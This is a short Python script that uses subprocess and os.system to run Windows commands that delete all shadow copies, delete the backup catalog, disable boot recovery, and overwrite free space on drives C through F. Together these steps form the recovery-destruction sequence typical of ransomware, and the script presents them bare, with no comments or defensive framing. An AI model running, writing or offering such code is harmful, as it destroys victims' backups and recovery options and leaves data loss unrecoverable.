import os
import subprocess

subprocess.run("vssadmin delete shadows /all /quiet", shell=True)
subprocess.run("wbadmin delete catalog -quiet", shell=True)
subprocess.run("bcdedit /set {default} recoveryenabled No", shell=True)
for drive in "CDEF":
    os.system(f"cipher /w:{drive}:\\")
